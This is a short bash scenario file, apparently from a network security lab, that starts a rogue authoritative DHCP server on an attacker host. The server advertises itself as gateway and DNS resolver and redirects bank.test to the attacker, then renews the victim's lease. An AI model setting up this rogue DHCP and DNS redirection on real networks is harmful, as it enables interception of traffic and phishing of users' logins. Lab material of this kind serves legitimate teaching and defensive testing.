# shellcheck shell=bash
# A second DHCP server answers beside the true one, and names itself as router and resolver.
start() { att_forward
  scn_dhcp attacker eth0 --dhcp-authoritative --no-ping --dhcp-option=3,$ATT_IP --dhcp-option=6,$ATT_IP --address=/bank.test/$ATT_IP
  mark; victim_dhcp; }
stop() { victim_dhcp; }
